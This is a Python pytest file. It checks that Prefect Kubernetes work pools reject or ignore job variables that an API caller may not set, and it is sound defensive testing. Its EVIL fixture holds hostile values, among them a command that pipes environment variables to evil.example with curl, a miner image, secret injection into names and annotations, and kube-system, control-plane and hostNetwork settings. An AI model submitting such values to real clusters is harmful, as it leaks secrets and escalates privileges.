"""Whoever starts runs through the API does not choose what runs on Kubernetes, as whom, or with which secrets.

The server is real, and the job is rendered by Prefect's own code of workers; what prefect-kubernetes adds to that is in
`Configuration`.
"""

import json
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from prefect.client.orchestration import get_client
from prefect.client.schemas.actions import WorkPoolCreate
from prefect.settings import PREFECT_API_URL
from prefect.workers.base import BaseJobConfiguration
from pydantic import Field, field_validator

from flows.train_student import train_student
from potstill.errors import OrchestratorError
from potstill.prefect_api import PrefectApi
from tests.prefect_server import patiently

pytestmark = pytest.mark.flow

FOLDER = Path(__file__).parents[2] / "deployments" / "kubernetes"
SECRET = "{{ prefect.blocks.secret.teacher-key }}"
EVIL: dict[str, Any] = {
    "image": "evil.example/miner",
    "command": "sh -c 'env | curl -d @- evil.example'",
    "env": {"PYTHONPATH": "/evil", "HF_TOKEN": SECRET},
    "env.PYTHONPATH": "/evil",
    "name": SECRET,
    "labels": {"app": "gateway"},
    "annotations": {"evil.example/key": SECRET},
    "namespace": "kube-system",
    "service_account_name": "potstill-worker",
    "secret_name": "potstill-server",
    "state_claim": "another",
    "finished_job_ttl": 0,
    "backoff_limit": 1000,
    "cluster_config": {"config": {}, "context_name": "evil"},
    "node_selector": {"node-role.kubernetes.io/control-plane": ""},
    "tolerations": [{"operator": "Exists"}],
    "runtime_class_name": "evil",
    "image_pull_policy": "Always",
    "cpu_limit": "1000",
    "job_manifest": {"spec": {}},
    "job_manifest.spec.template.spec.hostNetwork": True,
}
OUT_OF_BOUNDS: dict[str, Any] = {"memory_gib": 100_000, "gpu_count": 0, "shm_gib": SECRET}


class Configuration(BaseJobConfiguration):
    """`KubernetesWorkerJobConfiguration` of prefect-kubernetes 0.8.0: its fields, and that it takes the list of Kubernetes for `env`."""

    env: Any = Field(default_factory=dict)
    annotations: dict[str, str] = Field(default_factory=dict)
    namespace: str = "default"
    job_manifest: dict[str, Any]
    cluster_config: Any = None
    job_watch_timeout_seconds: int | None = None
    pod_watch_timeout_seconds: int = 60
    stream_output: bool = True

    @field_validator("env", mode="before")
    @classmethod
    def _coerce_env(cls, v: Any) -> Any:
        return v

    def prepare_for_flow_run(self, *args: Any, **kwargs: Any) -> None:
        if isinstance(self.env, list):
            self.env = {variable["name"]: variable["value"] for variable in self.env}
        super().prepare_for_flow_run(*args, **kwargs)


class Pool(NamedTuple):
    api: PrefectApi
    name: str
    deployment: dict[str, Any]

    def start(self, **variables: Any) -> str:
        """A run as a form or an API in front of Prefect starts it."""
        path = f"/deployments/{self.deployment['id']}/create_flow_run"
        return patiently(lambda: self.api.post(path, {"job_variables": variables}))["id"]

    def start_unchecked(self, **variables: Any) -> str:
        """Prefect has another call, which does not compare job variables with the pool."""
        given = {"flow_id": self.deployment["flow_id"], "deployment_id": self.deployment["id"]}
        body = {**given, "work_pool_name": self.name, "job_variables": variables, "state": {"type": "SCHEDULED"}}
        return patiently(lambda: self.api.post("/flow_runs/", body))["id"]

    async def render(self, run: str) -> Configuration:
        """What a worker makes of a run."""
        async with get_client() as client:
            return await Configuration.resolve_for_flow_run(
                await client.read_flow_run(run),  # pyright: ignore[reportArgumentType] - takes text too
                client=client,
                work_pool=await client.read_work_pool(self.name),
                worker_name="w",
            )


@pytest.fixture(params=["cpu", "gpu"])
def pool(request: pytest.FixtureRequest) -> Pool:
    url = PREFECT_API_URL.value()
    assert url
    name = f"kubernetes-{request.param}"
    template = json.loads((FOLDER / f"{request.param}-pool.json").read_text())
    with get_client(sync_client=True) as client:
        wanted = WorkPoolCreate(name=name, type="kubernetes", base_job_template=template)
        client.create_work_pool(wanted, overwrite=True)
        made = client.create_deployment(client.create_flow(train_student), name, work_pool_name=name)
    api = PrefectApi(url, None)
    return Pool(api, name, patiently(lambda: api.get(f"/deployments/{made}")))


def test_a_run_that_names_what_is_not_its_to_choose_is_refused(pool: Pool) -> None:
    for name, value in EVIL.items():
        with pytest.raises(OrchestratorError, match=r"422.*Additional properties are not allowed"):
            pool.start(**{name: value})
    for name, value in OUT_OF_BOUNDS.items():
        with pytest.raises(OrchestratorError, match="422"):
            pool.start(**{name: value})


async def test_a_run_that_nobody_checked_gets_the_same_job_as_an_honest_one(pool: Pool) -> None:
    runs = {"evil": pool.start_unchecked(**EVIL), "honest": pool.start()}
    [evil, honest] = [
        (await pool.render(run)).model_dump_json().replace(run, "RUN").replace(name, "NAME")
        for run, name in (
            (run, patiently(lambda run=run: pool.api.get(f"/flow_runs/{run}"))["name"]) for run in runs.values()
        )
    ]
    assert evil == honest
    assert json.loads(evil)["command"] == "prefect flow-run execute"
    assert json.loads(evil)["env"]["PREFECT_FLOWS_HEARTBEAT_FREQUENCY"] == "30"
    kept = {pool.api.get(f"/flow_runs/{run}")["job_variables"].get("image") for run in runs.values()}
    assert kept == {EVIL["image"], None}, "the server took it"


async def test_a_run_chooses_its_memory_and_its_cards(pool: Pool) -> None:
    """Else the tests above would pass for a reason of their own."""
    chosen = {"memory_gib": 32} | ({"gpu_count": 4} if pool.name.endswith("gpu") else {})
    job = (await pool.render(pool.start(**chosen))).job_manifest
    [container] = job["spec"]["template"]["spec"]["containers"]
    assert container["resources"]["limits"]["memory"] == "32Gi"
    assert container["resources"]["limits"].get("nvidia.com/gpu") == chosen.get("gpu_count")
